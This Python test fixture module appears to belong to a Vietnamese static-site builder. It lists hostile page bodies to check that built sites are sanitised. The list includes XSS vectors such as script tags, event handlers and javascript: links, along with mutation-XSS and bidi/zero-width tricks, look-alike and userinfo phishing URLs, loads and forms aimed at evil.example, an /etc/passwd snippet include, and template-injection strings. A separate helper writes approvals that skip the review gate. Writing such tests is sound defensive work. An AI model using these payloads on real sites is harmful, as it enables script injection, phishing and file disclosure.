"""What somebody could write into pages and translations, and sites that are full of it."""

from __future__ import annotations

from pathlib import Path

import yaml

from quangba.catalogs.workspace import Workspace

# ----------------------------------------------------------------------------
# Constants
# ----------------------------------------------------------------------------

MARK = "window.pwned=1"
"""What every attack would run."""

BODIES = {
    "script": f"<script>{MARK}</script>",
    "script-in-line": f"Vé <script>{MARK}</script> tàu",
    "script-of-others": '<script src="https://evil.example/a.js"></script>',
    "script-upper": f"<SCRIPT\n>{MARK}</SCRIPT>",
    "event": f'<img src="x" alt="" onerror="{MARK}">',
    "event-slash": f'<svg/onload="{MARK}"></svg>',
    "event-line": f'<p\nonclick="{MARK}">Vé</p>',
    "event-attribute-list": f"Vé tàu\n{{: onclick={MARK} }}",
    "event-attribute-inline": f"*Vé*{{: onmouseover={MARK} }}",
    "style-attribute-list": "Vé tàu\n{: style=position:fixed;inset:0 }",
    "style": "<style>body{display:none}</style>",
    "style-attribute": '<p style="position:fixed;inset:0">Vé</p>',
    "javascript": f"[Vé](javascript:{MARK})",
    "javascript-entity": f"[Vé](java&#115;cript:{MARK})",
    "javascript-tab": f'<a href="java&#9;script:{MARK}">Vé</a>',
    "javascript-reference": f"[Vé][v]\n\n[v]: javascript:{MARK}",
    "javascript-autolink": f"<javascript:{MARK}>",
    "javascript-attribute-list": f"[Vé](index.md){{: href=javascript:{MARK} }}",
    "data": "[Vé](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript": "[Vé](vbscript:x)",
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "frame-of-source": f'<iframe srcdoc="&lt;script&gt;{MARK}&lt;/script&gt;"></iframe>',
    "object": '<object data="https://evil.example/"></object>',
    "embed": '<embed src="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="a"><button>Gửi</button></form>',
    "button-of-form": f'<button formaction="javascript:{MARK}" form="f">Gửi</button>',
    "math": f'<math><a xlink:href="javascript:{MARK}">Vé</a></math>',
    "svg-animate": f'<svg><a><animate attributeName="href" to="javascript:{MARK}"/></a></svg>',
    "template": f"<template><script>{MARK}</script></template>",
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    "picture-of-others": "![Ảnh](https://evil.example/a.png)",
    "picture-srcset": '<img alt="" srcset="https://evil.example/a.png 1x">',
    "picture-bare": "<img alt='' src=//evil.example/a.png>",
    "video-of-others": '<video src="https://evil.example/a.mp4"></video>',
    "source-of-others": '<picture><source srcset="//evil.example/a"><img alt=""></picture>',
    "closing": "</main></body></html>",
    "closing-div": "</div></div></div><header>Cổng giả</header>",
    "comment-open": "Vé <!-- tàu",
    "bidi": "Vé \u202etàu",
    "isolate": "\u2066Vé\u2069",
    "tag-characters": "Vé\U000e0041\U000e0042",
    "zero-width": "V\u200bé",
    "hangul-filler": "Vé\u3164tàu",
    "hangul-jamo-filler": "Vé\u115ftàu",
    "variation": "Vé\ufe0f\U000e0101",
    "control": "Vé\x08",
    "stash": "\x02wzxhzdk:0\x03",
    "host-of-look-alikes": "[evisa](https://evіsa.gov.vn/)",
    "host-in-name": "[evisa](https://evisa.gov.vn@evil.example/)",
    "snippet": '--8<-- "/etc/passwd"',
    "fact-unknown": "{fact:nowhere}",
}
"""Bodies of pages, by what they try."""

TEMPLATES = {
    "jinja": "{{ 7 * 191 }} {% for x in [1] %}{{ config.docs_dir }}{% endfor %}",
    "comment": "Vé {# tàu #}",
    "fstring": "{0.__class__} %(x)s ${x} #{x} <%= 7 %>",
}
"""Template syntax: it is text, and stays as it is."""

# ----------------------------------------------------------------------------
# Functions
# ----------------------------------------------------------------------------


def approve_anyhow(workspace: Workspace, *names: str) -> None:
    """Write an approval for pages, whatever is wrong with them."""
    for name in names:
        path = workspace.gate.approval_file(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        data = {
            "approved_by": "Người duyệt",
            "date": "2026-01-01",
            "role": "sample",
            "fingerprint": workspace.gate.fingerprint(workspace.page(name)),
        }
        path.write_text(yaml.safe_dump(data), encoding="utf-8")


def texts_of(folder: Path) -> dict[str, str]:
    """Return the texts of a built site by path from its folder."""
    endings = {".html", ".js", ".json", ".xml", ".atom", ".csv", ".ics", ".txt", ".css"}
    return {
        path.relative_to(folder).as_posix(): path.read_text(encoding="utf-8")
        for path in sorted(folder.rglob("*"))
        if path.is_file() and (path.suffix in endings or path.name == "_headers")
    }
